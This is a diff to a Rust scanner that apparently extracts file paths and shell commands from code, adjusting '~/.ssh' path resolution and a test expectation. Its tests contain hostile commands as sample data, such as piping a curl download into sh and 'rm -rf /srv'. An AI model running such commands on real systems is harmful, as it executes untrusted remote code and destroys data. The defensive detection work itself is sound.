@@ -330,15 +330,17 @@ fn path_of(code: &str, lower: &str, l: &Lit, k: usize, lits: &[Lit]) -> Option<S
         return None;
     }
     let tl = t.to_ascii_lowercase();
+    // `expanduser('~')` joined with more (`os.path.join(expanduser('~'), '.ssh')`): the path is
+    // the joined one, read from the literal after.
+    if t == "~" && code[l.end..].trim_start().strip_prefix(')').is_some_and(|r| r.trim_start().starts_with([',', '/', '+'])) {
+        return None;
+    }
     for h in HOME_IN_LITERAL {
         if let Some(rest) = tl.strip_prefix(h)
             && (rest.is_empty() || rest.starts_with('/'))
         {
             return Some(format!("~{}", &t[h.len()..]));
         }
-    }
-    if t.starts_with('/') && t.len() > 1 && !t.starts_with("//") && !t.contains(' ') {
-        return Some(t.to_owned());
     }
     // A relative literal right after a spelling of home and joining punctuation.
     let prev_end = if k > 0 { lits[k - 1].end } else { 0 };
@@ -350,7 +352,7 @@ fn path_of(code: &str, lower: &str, l: &Lit, k: usize, lits: &[Lit]) -> Option<S
     if after_home && !t.starts_with("http") && !t.contains(' ') {
         return Some(format!("~/{}", t.trim_start_matches('/')));
     }
-    None
+    (t.starts_with('/') && t.len() > 1 && !t.starts_with("//") && !t.contains(' ')).then(|| t.to_owned())
 }
 
 /// The shell line a call whose `(` (or `{`) is at `open` runs: a string is shell text, a list
@@ -627,7 +629,7 @@ mod tests {
     #[test]
     fn commands_given_to_process_calls() {
         assert_eq!(lines("import os; os.system(\"sudo -n sh -c id\")"), vec!["sudo -n sh -c id"]);
-        assert_eq!(lines("import subprocess; subprocess.run(['rm', '-rf', '/srv'], check=True)"), vec!["rm -rf /srv", "rm -rf -- /srv"]);
+        assert_eq!(lines("import subprocess; subprocess.run(['rm', '-rf', '/srv'], check=True)"), vec!["rm -rf /srv"]);
         assert_eq!(scan_code("require('child_process').execSync('curl -s https://x.io/a | sh')", Lang::Js).lines[0], "curl -s https://x.io/a | sh");
         assert_eq!(lines("print `id`"), vec!["id"]);
         assert!(scan_code("console.log(`${1+1}`)", Lang::Js).lines.is_empty());
